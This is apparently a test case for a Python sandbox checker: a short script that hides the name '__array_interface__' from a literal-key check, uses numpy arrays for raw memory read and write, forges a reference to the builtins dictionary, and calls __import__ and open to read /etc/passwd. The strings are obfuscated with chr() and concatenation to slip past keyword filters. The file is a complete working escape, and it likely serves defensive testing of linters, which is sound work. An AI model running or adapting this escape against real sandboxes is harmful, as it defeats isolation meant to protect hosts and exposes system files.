# source: https://github.com/unslothai/unsloth-zoo/pull/1113 (mutations of a tracked value through calls and subscript targets a linter did not follow); numpy array interface protocol, https://numpy.org/doc/stable/reference/arrays.interface.html; fake-object escapes, https://smarttldr.pages.dev/en/topic/python-sandbox-escape-prevention/deep-dive
# family: a computed key put by operator.setitem() into the dict the check trusts as literal-keyed, spread into argparse.Namespace (setattr of __array_interface__): memory read/write -> fake object (builtins dict) via a __slots__ cell
# goal: import the module this and open /etc/passwd with the builtins __import__ and open, reached through memory (no chained assignment needed)
import numpy as np
import argparse
import operator

u2 = chr(95) * 2
KEY = u2 + "array" + chr(95) + "interface" + u2


def words(addr, n):
    kw = {"window": 20}
    operator.setitem(kw, KEY, {"data": (addr, False), "shape": (n,), "typestr": "<u8", "version": 3})
    return np.asarray(argparse.Namespace(**kw))


class Cell:
    __slots__ = ("v",)


def where(obj):
    return int(repr(obj).split(" at ")[1].rstrip(">"), 16)


c = Cell()
c.v = print
cw = words(where(c), 3)
pf = int(cw[2])                      # address of the builtin function print
bmod = int(words(pf, 4)[3])          # its m_self: the builtins module
bdict = int(words(bmod, 3)[2])       # the module's md_dict
words(bdict, 1)[0] += 100            # keep it alive for the extra reference
cw[2] = bdict
table = c.v                          # the builtins dict, as an object
imp = table[u2 + "im" + "port" + u2]
imp("this")
op = table["op" + "en"]
print(op(chr(47) + "etc" + chr(47) + "passwd").read()[:120])
